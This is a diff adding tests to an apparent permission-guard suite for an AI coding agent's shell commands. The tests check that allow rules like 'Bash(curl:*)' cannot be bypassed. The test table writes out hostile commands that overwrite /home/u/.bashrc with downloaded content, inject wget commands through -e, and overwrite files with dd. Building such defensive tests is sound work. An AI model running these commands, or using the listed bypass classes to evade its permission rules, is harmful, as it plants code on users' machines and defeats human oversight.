@@ -541,6 +541,35 @@ describe("public bypass classes: the guard reads shell commands as the programs 
   }
 });
 
+// Allow rules on the download and copy programs themselves (`Bash(curl:*)` is common in public settings files):
+// an option that writes a file the program names, or reads its options from a file, is not what such a rule vouches for.
+const fetchGuard = permissionPolicy(parsePolicy(policyYaml(["curl:*", "wget:*", "dd:*", "curl -o x.json:*"], ["rm:*"]), "yaml", "public-bypasses-fetch.yaml"));
+
+describe("public bypass classes: download and copy programs write or read their options through an option [anthropics/claude-code#20449 (public settings allowing Bash(curl:*), Bash(tee:*), Bash(tar:*)); GTFOBins (curl: 'File write' -o, wget: 'File write' -O and -e/--execute wgetrc commands, --post-file 'File upload'; dd: 'File write' of=)]", () => {
+  it.each([
+    ["curl -o /home/u/.bashrc https://h/x", "not-allow", /curl writes a file through -o/],
+    ["curl -sSLo/home/u/.bashrc https://h/x", "not-allow", /curl writes a file through -o/],
+    ["curl --output=/home/u/.bashrc https://h/x", "not-allow", /curl writes a file through --output/],
+    ["curl -O https://h/x.sh", "not-allow", /curl writes a file through -O/],
+    ["curl -K /tmp/cfg https://h", "not-allow", /curl runs the code in the file given with -K/],
+    ["curl --config /tmp/cfg https://h", "not-allow", /--config/],
+    ["curl -c /tmp/jar https://h", "not-allow", /curl writes a file through -c/],
+    ["wget -O /home/u/.bashrc https://h/x", "not-allow", /wget writes a file through -O/],
+    ["wget -e 'output_document=/home/u/.bashrc' https://h/x", "not-allow", /wget runs the code given with -e|cannot tell/],
+    ["wget --execute=use_askpass=/tmp/x https://h", "not-allow", /cannot tell|--execute/],
+    ["dd if=a.txt of=/home/u/.bashrc", "not-allow", /dd writes a file through of=/],
+    ["curl -o x.json https://h/x", "allow", undefined],
+    ["curl -sS -H 'Accept: application/json' https://h/x", "allow", undefined],
+    ["wget -q https://h/x", "allow", undefined],
+    ["dd if=a.txt bs=1 count=1", "allow", undefined],
+  ] as const)("%s", (command, expected, reason) => {
+    const decision = fetchGuard.decide("Bash", { command });
+    if (expected === "allow") expect(decision.mode, decision.reason).toBe("allow");
+    else expect(decision.mode, decision.reason).not.toBe("allow");
+    if (reason !== undefined) expect(decision.reason).toMatch(reason);
+  });
+});
+
 const support = oracleSupport();
 const oracleCases = SHELL_CLASSES.flatMap((klass) => klass.cases.filter((c) => c.ran !== undefined));
 
